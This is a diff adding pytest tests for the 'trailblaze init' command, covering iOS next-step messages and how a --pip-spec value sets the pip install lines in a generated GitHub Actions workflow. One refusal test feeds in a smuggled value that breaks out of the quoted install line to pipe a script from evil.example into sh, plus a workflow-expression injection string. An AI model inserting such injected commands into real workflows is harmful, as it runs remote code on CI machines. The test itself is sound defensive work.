@@ -103,3 +103,85 @@ def test_init_refuses_what_is_not_an_app_id(tmp_path: Path) -> None:
         and "e.g. com.example.app" in done.stderr
     )
     assert not any(tmp_path.iterdir())
+
+
+def test_init_with_ios_says_the_next_steps_for_ios_too(tmp_path: Path) -> None:
+    """Issue 40 item 8: `--ios` adds an iOS job, so the next steps say how to record for iOS, and the
+    example trail launches the app there too (the iOS job replays it)."""
+    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app", "--ios")
+    assert done.returncode == 0, done.stderr
+    example = tmp_path / "trails" / "example.trail.yaml"
+    assert [line for line in done.stdout.splitlines() if line.startswith("next")] == [
+        f"next: trailblaze validate {tmp_path / 'trails'}; record steps with "
+        f"`trailblaze record {example} --device android`",
+        "next for iOS: start WebDriverAgent on a simulator or iPhone and record the same steps there: "
+        f"`trailblaze record {example} --device ios` (docs/guides/real-devices.md)",
+    ]
+    trail = yaml.safe_load(example.read_text())
+    launch = [{"launchApp": {"appId": "com.example.app", "launchMode": "CLEAR_STATE"}}]
+    assert trail["trail"][0]["recording"] == {"android": launch, "ios": launch}
+    alone = trailblaze("init", str(tmp_path / "plain"), "--app-id", "com.example.app")
+    assert "next for iOS" not in alone.stdout
+
+
+def _installs(workflow: Path) -> dict[str, str]:
+    """Each job's `pip install` line."""
+    jobs = yaml.safe_load(workflow.read_text())["jobs"]
+    return {
+        name: step["run"]
+        for name, job in jobs.items()
+        for step in job["steps"]
+        if step.get("name") == "Install trailblaze"
+    }
+
+
+@pytest.mark.parametrize(
+    ("spec", "android", "ios", "report"),
+    [
+        ("0.2.0", "trailblaze[android]==0.2.0", "trailblaze[ios]==0.2.0", "trailblaze==0.2.0"),
+        (
+            "dist/trailblaze-0.2.0-py3-none-any.whl",
+            "dist/trailblaze-0.2.0-py3-none-any.whl[android]",
+            "dist/trailblaze-0.2.0-py3-none-any.whl[ios]",
+            "dist/trailblaze-0.2.0-py3-none-any.whl",
+        ),
+        (
+            "git+https://github.com/you/trailblaze@main",
+            "trailblaze[android] @ git+https://github.com/you/trailblaze@main",
+            "trailblaze[ios] @ git+https://github.com/you/trailblaze@main",
+            "trailblaze @ git+https://github.com/you/trailblaze@main",
+        ),
+    ],
+    ids=["version", "wheel", "vcs"],
+)
+def test_init_pip_spec_sets_what_the_workflow_installs(
+    tmp_path: Path, spec: str, android: str, ios: str, report: str
+) -> None:
+    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app", "--ios", "--pip-spec", spec)
+    assert done.returncode == 0, done.stderr
+    installs = _installs(tmp_path / ".github" / "workflows" / "trailblaze.yml")
+    assert installs == {
+        "android": f'pip install "{android}"',
+        "ios": f'pip install "{ios}"',
+        "report": f'pip install "{report}"',
+    }
+
+
+def test_init_installs_this_version_without_pip_spec(tmp_path: Path) -> None:
+    from trailblaze.__about__ import __version__
+
+    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app")
+    assert done.returncode == 0, done.stderr
+    assert _installs(tmp_path / ".github" / "workflows" / "trailblaze.yml") == {
+        "android": f'pip install "trailblaze[android]=={__version__}"',
+        "report": f'pip install "trailblaze=={__version__}"',
+    }
+
+
+@pytest.mark.parametrize("spec", ['0.2" && curl evil.example | sh', "${{ github.event.issue.title }}", "not a spec", ""])
+def test_init_refuses_a_pip_spec_it_cannot_write_safely(tmp_path: Path, spec: str) -> None:
+    done = trailblaze("init", str(tmp_path), "--app-id", "com.example.app", "--pip-spec", spec)
+    assert done.returncode == 2, done.stdout
+    assert done.stderr.startswith("error: --pip-spec ") and done.stderr.count("\n") == 1, done.stderr
+    assert "git+https://" in done.stderr  # the forms it takes, with an example
+    assert not any(tmp_path.iterdir())
